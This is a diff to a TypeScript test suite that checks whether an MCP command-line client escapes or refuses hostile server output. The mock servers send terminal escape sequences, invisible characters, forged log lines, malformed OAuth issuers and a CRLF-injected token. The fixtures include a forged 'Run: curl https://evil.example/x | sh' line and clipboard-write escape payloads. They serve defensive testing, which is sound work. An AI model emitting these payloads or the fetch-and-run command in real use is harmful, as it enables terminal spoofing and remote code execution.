@@ -15,6 +15,12 @@ import { cliPath } from '../helpers/cli.js';
  * CLI prints: tool names, descriptions and results, the server name, the PRM `resource`, the AS
  * `issuer`, `error` and `error_description`. Nothing of it may reach the terminal as a control
  * character; the visible text (and, in JSON output, the exact value) must survive.
+ *
+ * Issue 46 (what a server says is data, never layout): a value never makes a line of its own (LF,
+ * CR, U+2028/2029 are shown as `\n`, `\r`, `\u2028`), invisible characters (Unicode Cf, fillers,
+ * variation selectors) are shown as escapes, an `error` code outside RFC 6749 §5.2's charset is
+ * replaced, an issuer that the URL parser would silently change is refused (RFC 8414 §2), and an
+ * access token outside RFC 6750 §2.1's syntax is refused without being echoed.
  */
 
 const ESC = '\u001b';
@@ -27,10 +33,16 @@ const PAYLOADS = {
   c1: '\u009b31m\u009d0;c1-title\u009c',
   misc: `\r\b\u007f\u0000${BEL}`,
 };
-const ALL = Object.values(PAYLOADS).join('');
+/** Invisible and line-breaking characters (Unicode Cf, Zl, Zp, fillers, variation selectors, tags). */
+const INVISIBLES = '\u200b\ufeff\u00ad\u2028\u2029\u{e0041}\u3164\u115f\ufe0f';
+const ALL = Object.values(PAYLOADS).join('') + INVISIBLES;
 
 /** Terminal controls the CLI must never emit: C0 but newline and tab, DEL, C1. */
 const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+/** Characters that are not seen or break lines: they must reach the terminal as escapes. */
+const INVISIBLE = /[\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
+/** What a forged code or description would print as a line of its own. */
+const FORGED = '\nLogged in to https://bank.example via https://bank.example\nRun: curl https://evil.example/x | sh\n';
 
 interface Hostile {
   url: string;
@@ -61,6 +73,7 @@ const TOOLS = [
     inputSchema: { type: 'object' },
   },
   { name: `bell${PAYLOADS.misc}`, description: `line one\nline two ${PAYLOADS.link}`, inputSchema: { type: 'object' } },
+  { name: `zero\u200bwidth${INVISIBLES}`, description: `forged${FORGED}`, inputSchema: { type: 'object' } },
 ];
 const RESULT_TEXT = `result-text${ALL}end`;
 
@@ -86,12 +99,39 @@ function jsonRpc(body: string) {
 describe('attack: terminal escape sequences from servers through the CLI', () => {
   let mcp: Hostile;
   let as: Hostile;
+  /** An AS that issues an access token with CR LF in it (client credentials). */
+  let crlfAs: Hostile;
+  /** An AS that says its token lives 1e300 seconds. */
+  let foreverAs: Hostile;
   let home: string;
+  /** Paths the AS was asked for (a refused issuer must be refused before any request). */
+  const asked: string[] = [];
 
   beforeAll(async () => {
     as = await serve((path, _body, self) => {
+      asked.push(path);
       if (path === '/.well-known/oauth-authorization-server/bad-issuer') {
         return { status: 200, body: { issuer: `${self}/bad-issuer${ALL}`, code_challenge_methods_supported: ['S256'] } };
+      }
+      // The URL parser drops TAB and LF: the metadata of `/tab-issuer` answers for `/\ttab-issuer`.
+      if (path === '/.well-known/oauth-authorization-server/tab-issuer' || path === '/.well-known/oauth-authorization-server/lf-issuer') {
+        const issuer = path.endsWith('tab-issuer') ? `${self}/\ttab-issuer` : `${self}/lf-\nissuer`;
+        return {
+          status: 200,
+          body: {
+            issuer,
+            authorization_endpoint: `${self}/authorize`,
+            token_endpoint: `${self}/token`,
+            registration_endpoint: `${self}/register`,
+            code_challenge_methods_supported: ['S256'],
+          },
+        };
+      }
+      if (path === '/.well-known/oauth-authorization-server/forged') {
+        return {
+          status: 200,
+          body: { issuer: `${self}/forged`, token_endpoint: `${self}/forged/token`, code_challenge_methods_supported: ['S256'] },
+        };
       }
       if (path.startsWith('/.well-known/')) {
         return {
@@ -109,6 +149,31 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
       if (path === '/register')
         return { status: 400, body: { error: 'invalid_client_metadata', error_description: `registration-refused${ALL}` } };
       if (path === '/token') return { status: 400, body: { error: 'invalid_client', error_description: `token-refused${ALL}` } };
+      if (path === '/forged/token')
+        return { status: 400, body: { error: `invalid_client${FORGED}${ESC}[2J`, error_description: `desc${FORGED}` } };
+      return { status: 404, body: {} };
+    });
+    foreverAs = await serve((path, _body, self) => {
+      if (path.startsWith('/.well-known/')) {
+        return { status: 200, body: { issuer: self, token_endpoint: `${self}/token`, code_challenge_methods_supported: ['S256'] } };
+      }
+      if (path === '/token') return { status: 200, body: { access_token: 'forever-token', token_type: 'Bearer', expires_in: 1e300 } };
+      return { status: 404, body: {} };
+    });
+    crlfAs = await serve((path, _body, self) => {
+      if (path.startsWith('/.well-known/')) {
+        return {
+          status: 200,
+          body: {
+            issuer: self,
+            token_endpoint: `${self}/token`,
+            code_challenge_methods_supported: ['S256'],
+            grant_types_supported: ['client_credentials'],
+          },
+        };
+      }
+      if (path === '/token')
+        return { status: 200, body: { access_token: 'tok-s3cret\r\nX-Injected: yes', token_type: 'Bearer', expires_in: 300 } };
       return { status: 404, body: {} };
     });
     mcp = await serve((path, body, self) => {
@@ -121,6 +186,14 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
       if (prm === '/as/mcp') return { status: 200, body: { resource: `${self}/as/mcp`, authorization_servers: [as.url] } };
       if (prm === '/badiss/mcp')
         return { status: 200, body: { resource: `${self}/badiss/mcp`, authorization_servers: [`${as.url}/bad-issuer`] } };
+      if (prm === '/tabiss/mcp')
+        return { status: 200, body: { resource: `${self}/tabiss/mcp`, authorization_servers: [`${as.url}/\ttab-issuer`] } };
+      if (prm === '/lfiss/mcp')
+        return { status: 200, body: { resource: `${self}/lfiss/mcp`, authorization_servers: [`${as.url}/lf-\nissuer`] } };
+      if (prm === '/forged/mcp')
+        return { status: 200, body: { resource: `${self}/forged/mcp`, authorization_servers: [`${as.url}/forged`] } };
+      if (prm === '/crlf/mcp') return { status: 200, body: { resource: `${self}/crlf/mcp`, authorization_servers: [crlfAs.url] } };
+      if (prm === '/forever/mcp') return { status: 200, body: { resource: `${self}/forever/mcp`, authorization_servers: [foreverAs.url] } };
       return {
         status: 401,
         headers: { 'www-authenticate': `Bearer resource_metadata="${self}/.well-known/oauth-protected-resource${path}"` },
@@ -130,7 +203,7 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
     home = await mkdtemp(join(tmpdir(), 'mak-terminal-'));
   });
   afterAll(async () => {
-    for (const h of [mcp, as]) {
+    for (const h of [mcp, as, crlfAs, foreverAs]) {
       h?.server.closeAllConnections();
       h?.server.close();
     }
@@ -151,15 +224,29 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
       );
     });
 
-  const clean = (text: string, what: string) => expect(CONTROL.exec(text)?.[0], `${what} carries a control character`).toBeUndefined();
+  const clean = (text: string, what: string) => {
+    expect(CONTROL.exec(text)?.[0], `${what} carries a control character`).toBeUndefined();
+    expect(INVISIBLE.exec(text)?.[0], `${what} carries an invisible or line-breaking character`).toBeUndefined();
+  };
+  /** No line printed starts with what a forged value tried to print. */
+  const noForgedLine = (text: string) => {
+    for (const line of text.split('\n')) expect(line).not.toMatch(/^(Logged in to|Run: curl)/);
+  };
 
-  it('tools: names and descriptions are printed without controls (visible text and newlines kept)', async () => {
+  it('tools: names and descriptions are printed as visible text: controls, invisibles and newlines as escapes, one line per tool', async () => {
     const r = await cli(['tools', `${mcp.url}/open/mcp`]);
     expect(r.code, r.stderr).toBe(0);
     clean(r.stdout, 'stdout');
     clean(r.stderr, 'stderr');
-    expect(r.stdout).toContain('evil-tool[2J[H31m0;c1-title — reads notes]52;c;ZWNobyBwd25lZA==]0;pwned-title and more');
-    expect(r.stdout).toContain('line one\nline two');
+    noForgedLine(r.stdout);
+    expect(r.stdout).toContain(
+      'evil-tool\\u001b[2J\\u001b[H\\u009b31m\\u009d0;c1-title\\u009c — reads notes\\u001b]52;c;ZWNobyBwd25lZA==\\u0007\\u001b]0;pwned-title\\u0007 and more',
+    );
+    expect(r.stdout).toContain('line one\\nline two');
+    expect(r.stdout).toContain(
+      'zero\\u200bwidth\\u200b\\ufeff\\u00ad\\u2028\\u2029\\u{e0041}\\u3164\\u115f\\ufe0f — forged\\nLogged in to',
+    );
+    expect(r.stdout.trimEnd().split('\n')).toHaveLength(TOOLS.length);
   });
 
   it('tools --json: no raw controls, and the JSON still parses back to the exact server values', async () => {
@@ -181,12 +268,12 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
   it('login: a PRM `resource` with controls (mismatching, and matching after the URL parser drops trailing controls) is shown clean', async () => {
     const mismatch = await cli(['login', `${mcp.url}/mismatch/mcp`]);
     expect(mismatch.code).toBe(1);
-    expect(mismatch.stderr).toContain(`(${mcp.url}/other[2J[H`);
+    expect(mismatch.stderr).toContain(`(${mcp.url}/other\\u001b[2J\\u001b[H`);
     expect(mismatch.stderr).toContain('MCP_AUTH_PRM_RESOURCE_MISMATCH');
     clean(mismatch.stderr, 'stderr');
     const trailing = await cli(['login', `${mcp.url}/trailing/mcp`]);
     expect(trailing.code).toBe(1);
-    expect(trailing.stderr).toContain(`Discovered ${mcp.url}/trailing/mcp (authorization server`);
+    expect(trailing.stderr).toContain(`Discovered ${mcp.url}/trailing/mcp\\u0007\\u001b\\u0008\\r\\u0000\\u001b (authorization server`);
     clean(trailing.stderr, 'stderr');
   });
 
@@ -199,6 +286,53 @@ describe('attack: terminal escape sequences from servers through the CLI', () =>
     expect(badIssuer.code).toBe(1);
     expect(badIssuer.stderr).toContain('MCP_AUTH_AS_ISSUER_MISMATCH');
     clean(badIssuer.stderr, 'stderr');
+  });
+
+  it('login: an issuer with TAB or LF (dropped by the URL parser, so the metadata "matches") is refused before any request (RFC 8414 §2)', async () => {
+    for (const [path, shown] of [
+      ['/tabiss/mcp', '/\\ttab-issuer'],
+      ['/lfiss/mcp', '/lf-\\nissuer'],
+    ] as const) {
+      asked.length = 0;
+      const r = await cli(['login', `${mcp.url}${path}`]);
+      expect(r.code, r.stderr).toBe(1);
+      expect(r.stderr).toContain('MCP_AUTH_AS_METADATA_INVALID');
+      expect(r.stderr).toContain(`${as.url}${shown}`);
+      expect(r.stderr).not.toContain('Discovered');
+      expect(asked).toEqual([]);
+      clean(r.stderr, 'stderr');
+    }
+  });
+
+  it('login --client-credentials: an AS `error` code and description with newlines and escapes cannot forge lines (RFC 6749 §5.2)', async () => {
+    const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', `${as.url}/forged`, 'login', `${mcp.url}/forged/mcp`]);
+    expect(r.code).toBe(1);
+    clean(r.stdout, 'stdout');
+    clean(r.stderr, 'stderr');
+    noForgedLine(r.stdout);
+    noForgedLine(r.stderr);
+    expect(r.stderr).toContain('failed: (malformed error code) (desc\\nLogged in to https://bank.example');
+    expect(r.stderr).not.toContain('invalid_client');
+  });
+
+  it('call --client-credentials: an access token with CR LF is refused and never echoed (RFC 6750 §2.1)', async () => {
+    const r = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', crlfAs.url, 'call', `${mcp.url}/crlf/mcp`, 'anything']);
+    expect(r.code).toBe(1);
+    clean(r.stdout, 'stdout');
+    clean(r.stderr, 'stderr');
+    expect(`${r.stdout}${r.stderr}`).not.toContain('s3cret');
+    expect(`${r.stdout}${r.stderr}`).not.toContain('X-Injected');
+    expect(r.stderr).toContain('not a valid token (RFC 6750 §2.1); it is not shown');
+  });
+
+  it('login --client-credentials, status: an `expires_in` of 1e300 is capped (RFC 6749 §5.1 in range), so status still shows a date', async () => {
+    const login = await cli(['--client-credentials', '--client-id', 'svc', '--issuer', foreverAs.url, 'login', `${mcp.url}/forever/mcp`]);
+    expect(login.code, login.stderr).toBe(0);
+    const status = await cli(['status']);
+    expect(status.code, status.stderr).toBe(0);
+    const year = Number(/access token valid until (\d{4})-/.exec(status.stdout)?.[1]);
+    expect(year).toBeGreaterThanOrEqual(new Date().getUTCFullYear() + 9);
+    expect(year).toBeLessThanOrEqual(new Date().getUTCFullYear() + 11);
   });
 
   it('login --client-credentials: the token endpoint `error_description` is shown clean', async () => {
